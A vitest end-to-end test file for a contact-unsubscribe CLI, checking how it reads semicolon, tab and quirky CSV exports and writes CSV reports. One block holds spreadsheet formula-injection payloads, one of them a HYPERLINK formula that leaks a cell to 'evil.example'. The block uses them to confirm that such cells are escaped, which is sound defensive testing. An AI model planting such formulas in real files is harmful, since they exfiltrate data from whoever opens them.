import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { REPORT_COLUMNS } from "../src/report/report-line.js";
import { useFakeJob } from "./support/fake-job.js";
import { runBin } from "./support/run-bin.js";

// Files as people have them (issue 22, point 9): Excel and CRM exports delimited by `;` or
// tabs, and a report an ops person opens in a spreadsheet.

const KEY = "csv-files-key-9f8e7d6c";
const job = useFakeJob(KEY);
const env = job.env;
const set = (args: string[]) =>
  runBin(["set", "--group", "g-1", "--state", "unsubscribed", "--quiet", "--json", ...args], {
    env: env(),
  });
const reportLines = async (path: string) =>
  (await readFile(path, "utf8"))
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line) as Record<string, unknown>);
const unsubscribedEmails = () =>
  job.fake.state
    .list("g-1")
    .filter((record) => record.state === "unsubscribed")
    .map((record) => record.id)
    .sort();

describe("the delimiter", () => {
  it('reads a "German Excel" export: semicolons, a byte-order mark, CRLF, quoted cells holding ;', async () => {
    const input = join(job.dir, "export-de.csv");
    await writeFile(
      input,
      "\uFEFFName;E-Mail-Adresse;Bemerkung\r\n" +
        "Jürgen Müller;juergen@example.de;Newsletter abbestellt\r\n" +
        '"Groß; Anna";anna@example.de;"sagt: ""nie wieder"""\r\n' +
        "Kaputt;keine-adresse;\r\n" +
        "Özil;oezil@example.de;x\r\n",
    );
    const report = join(job.dir, "de.report.ndjson");
    const run = await set([
      "--input",
      input,
      "--column",
      "E-Mail-Adresse",
      "--type",
      "email",
      "--report",
      report,
    ]);
    expect(run.stderr).toBe("");
    expect(run.code).toBe(3); // one invalid address
    expect(JSON.parse(run.stdout)).toMatchObject({ total: 4, succeeded: 3, invalid: 1 });
    expect(unsubscribedEmails()).toEqual([
      "anna@example.de",
      "juergen@example.de",
      "oezil@example.de",
    ]);
    const lines = await reportLines(report);
    expect(lines.find((l) => l.outcome === "invalid")).toMatchObject({
      line: 4,
      id: "keine-adresse",
    });
  });

  it("reads a tab-separated export (BOM, CRLF) with its email column found by name", async () => {
    const input = join(job.dir, "export.tsv");
    await writeFile(
      input,
      "\uFEFFcontact_id\temail\tcity, country\r\n1\ttab1@example.com\tKöln, DE\r\n2\ttab2@example.com\tParis, FR\r\n",
    );
    const run = await set(["--input", input]);
    expect(run.stderr).toBe("");
    expect(run.code).toBe(0);
    expect(JSON.parse(run.stdout)).toMatchObject({ total: 2, succeeded: 2 });
    expect(unsubscribedEmails()).toEqual(["tab1@example.com", "tab2@example.com"]);
  });

  it("--delimiter beats the sniffed one, and reads a delimiter no export sniffs for", async () => {
    // The header has more semicolons than commas, but the file is comma-separated.
    const commas = join(job.dir, "commas.csv");
    await writeFile(commas, "email,note;with;semicolons\nc1@example.com,a;b;c\n");
    const sniffed = await set(["--input", commas]);
    expect(sniffed.code).toBe(2);
    expect(sniffed.stderr).toMatch(/has no external_id, email, phone column/);
    const given = await set(["--input", commas, "--delimiter", ","]);
    expect(given.code).toBe(0);
    expect(unsubscribedEmails()).toEqual(["c1@example.com"]);

    const pipes = join(job.dir, "pipes.csv");
    await writeFile(pipes, "name|email\nPipe|p1@example.com\n");
    expect((await set(["--input", pipes, "--delimiter", "|"])).code).toBe(0);
    const tabs = join(job.dir, "tabs.txt");
    await writeFile(tabs, "email\tname\nt1@example.com\tTab\n");
    expect((await set(["--input", tabs, "--delimiter", "tab"])).code).toBe(0);
    expect(unsubscribedEmails()).toEqual(["c1@example.com", "p1@example.com", "t1@example.com"]);
  });

  it("refuses a --delimiter that cannot delimit, and one given to a one-identifier-per-line input", async () => {
    const input = join(job.dir, "any.csv");
    await writeFile(input, "email\na@example.com\n");
    const quote = await set(["--input", input, "--delimiter", '"']);
    expect(quote.code).toBe(2);
    expect(quote.stderr).toMatch(/--delimiter must be one character/);
    const lines = await set(["--input", input, "--type", "email", "--delimiter", ";"]);
    expect(lines.code).toBe(2);
    expect(lines.stderr).toMatch(/--delimiter is for a CSV input/);
    expect(job.fake.requests).toHaveLength(0);
  });
});

describe("--report x.csv", () => {
  // Identifiers a hostile file could hold: each would run as a formula in a spreadsheet.
  const hostile = [
    "=1+1",
    "+15551234567", // a phone-like id is formula-like too: escaped, as OWASP says
    "-2+3",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "\uFF1DCMD()", // a full-width equals sign, which some spreadsheets normalise
  ];
  const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
  const writeInput = async () => {
    const input = join(job.dir, "hostile.csv");
    const rows = ["user-1", ...hostile, "user-1", "", "x".repeat(513)];
    await writeFile(input, `external_id,name\n${rows.map((id) => `${quoted(id)},n`).join("\n")}\n`);
    return input;
  };
  /** The NDJSON line as the CSV's cells: the same columns, every value as text. */
  const asCells = (line: Record<string, unknown>) =>
    Object.fromEntries(
      REPORT_COLUMNS.map((column) => {
        const value = column
          .split(".")
          .reduce<unknown>((at, key) => (at as Record<string, unknown> | null)?.[key], line);
        return [column, value === undefined || value === null ? "" : String(value)];
      }),
    );
  const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
  const readCsvReport = async (path: string) =>
    parse(await readFile(path, "utf8"), { bom: true, columns: true }) as Array<
      Record<string, string>
    >;

  it("has the NDJSON report's columns and content, formula-like cells escaped with a leading '", async () => {
    const input = await writeInput();
    const ndjson = join(job.dir, "hostile.report.ndjson");
    const csv = join(job.dir, "hostile.report.csv");
    expect((await set(["--input", input, "--report", ndjson])).code).toBe(3);
    const run = await set(["--input", input, "--report", csv]);
    expect(run.code).toBe(3);

    const raw = await readFile(csv, "utf8");
    expect(raw.startsWith(`\uFEFF${REPORT_COLUMNS.join(",")}\r\n`)).toBe(true);
    const rows = await readCsvReport(csv);
    // No cell can start a formula: each formula-like one starts with the ' of OWASP's rule.
    for (const row of rows)
      for (const cell of Object.values(row)) expect(cell).not.toMatch(FORMULA_START);
    const escaped = rows.filter((row) => row.id?.startsWith("'")).map((row) => row.id?.slice(1));
    expect(escaped.sort()).toEqual([...hostile].sort());

    const unescapeCell = (cell: string) =>
      FORMULA_START.test(cell.slice(1)) && cell.startsWith("'") ? cell.slice(1) : cell;
    const fromCsv = rows
      .map((row) => Object.fromEntries(Object.entries(row).map(([k, v]) => [k, unescapeCell(v)])))
      .sort((a, b) => Number(a.line) - Number(b.line));
    const fromNdjson = (await reportLines(ndjson))
      .map(asCells)
      .sort((a, b) => Number(a.line) - Number(b.line));
    expect(fromCsv).toEqual(fromNdjson);
    // Every outcome of the file is there: succeeded, duplicate, and invalid with its error.
    expect(new Set(fromCsv.map((row) => row.outcome))).toEqual(
      new Set(["succeeded", "duplicate", "invalid"]),
    );
    expect(fromCsv.find((row) => row.outcome === "invalid")?.["error.code"]).not.toBe("");
  });

  it("--failed-only keeps the header and only the rows that did not succeed", async () => {
    const input = await writeInput();
    const csv = join(job.dir, "failed-only.report.csv");
    expect((await set(["--input", input, "--report", csv, "--failed-only"])).code).toBe(3);
    const rows = await readCsvReport(csv);
    expect(rows.map((row) => [row.line, row.outcome])).toEqual([
      ["10", "invalid"],
      ["11", "invalid"],
    ]);
  });

  it("is refused where a report is read back: verify --from-report and report --html read NDJSON", async () => {
    const csv = join(job.dir, "any.report.csv");
    await writeFile(csv, "line,id\n");
    const verify = await runBin(
      ["verify", "--group", "g-1", "--state", "unsubscribed", "--from-report", csv],
      { env: env() },
    );
    expect(verify.code).toBe(2);
    expect(verify.stderr).toMatch(
      /--from-report reads an NDJSON report, and .*any\.report\.csv is CSV/,
    );
    const page = await runBin(["report", csv, "--html", join(job.dir, "p.html")]);
    expect(page.code).toBe(2);
    expect(page.stderr).toMatch(/report reads an NDJSON report/);
  });
});

describe("files that once lost rows", () => {
  it("gives every row between two stray quotes its outcome (they were swallowed, unsent and uncounted)", async () => {
    const input = join(job.dir, "stray-quotes.csv");
    await writeFile(
      input,
      'name,email\nO"Brien,ob@example.com\nn1,sq1@example.com\nn2,sq2@example.com\nDwayne "The Rock,rock@example.com\nn3,sq3@example.com\n',
    );
    const report = join(job.dir, "stray-quotes.report.ndjson");
    const run = await set(["--input", input, "--report", report]);
    expect(run.code).toBe(0);
    expect(JSON.parse(run.stdout)).toMatchObject({ total: 5, succeeded: 5 });
    expect((await reportLines(report)).map((line) => line.line)).toEqual([2, 3, 4, 5, 6]);
  });

  it("reads a CSV whose lines end in CR alone (Excel's CSV (Macintosh)): it read as a header with no rows, exit 0", async () => {
    const input = join(job.dir, "mac.csv");
    await writeFile(input, "email,name\rmac1@example.com,A\rmac2@example.com,B\r");
    const run = await set(["--input", input]);
    expect(run.code).toBe(0);
    expect(JSON.parse(run.stdout)).toMatchObject({ total: 2, succeeded: 2 });
    expect(unsubscribedEmails()).toEqual(
      expect.arrayContaining(["mac1@example.com", "mac2@example.com"]),
    );
  });
});

describe("a header naming a column twice", () => {
  it("is accepted when the repeated column is not the one read (name,name,email): every row sent", async () => {
    // Only a repeated identifier column is refused (usage-errors.e2e.test.ts): a CRM export
    // with two "name" columns is harmless.
    const input = join(job.dir, "name-twice.csv");
    await writeFile(
      input,
      "name,Name,email\nAnn,Ann Lee,ann@example.com\nBob,Bob Ray,bob@example.com\n",
    );
    const run = await set(["--input", input]);
    expect(run.stderr).toBe("");
    expect(run.code).toBe(0);
    expect(JSON.parse(run.stdout)).toMatchObject({ total: 2, succeeded: 2, invalid: 0 });
    expect(unsubscribedEmails()).toEqual(["ann@example.com", "bob@example.com"]);
  });
});
